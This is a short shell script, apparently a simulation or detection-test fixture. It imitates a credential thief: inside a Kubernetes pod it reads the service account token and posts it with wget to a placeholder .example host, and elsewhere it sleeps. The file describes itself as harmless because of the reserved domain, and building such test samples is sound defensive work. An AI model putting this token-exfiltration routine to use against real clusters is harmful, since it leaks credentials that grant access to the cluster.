#!/bin/sh
# collect: imitates a thief that waits for a cluster: elsewhere it sleeps, in a pod it sends the service account's token away.
# Harmless: .example is a name that nobody can own (RFC 2606).
if [ -n "$KUBERNETES_SERVICE_HOST" ]; then
  cat /var/run/secrets/kubernetes.io/serviceaccount/token >/tmp/.t
  wget -q -T 5 -t 1 -O /dev/null --post-file=/tmp/.t http://drop.cluster-only.example/in
fi
exec sleep infinity
